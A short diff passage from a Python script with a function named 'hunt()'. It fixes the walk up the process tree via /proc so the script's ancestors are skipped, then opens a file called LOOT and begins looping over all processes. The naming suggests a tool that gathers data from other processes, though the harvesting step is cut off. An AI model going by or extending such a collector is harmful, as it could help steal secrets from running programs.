@@ -69,10 +69,10 @@ hunt()
 def parent(pid):
     return int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
 
-above, pid = set(), os.getpid()
-while pid > 1:
-    pid = parent(pid)
+above, pid = set(), parent(os.getpid())
+while pid > 1:  # not init: every orphan on the machine is its child
     above.add(pid)
+    pid = parent(pid)
 with open(LOOT, "a") as loot:
     for pid in filter(str.isdigit, os.listdir("/proc")):
         try:
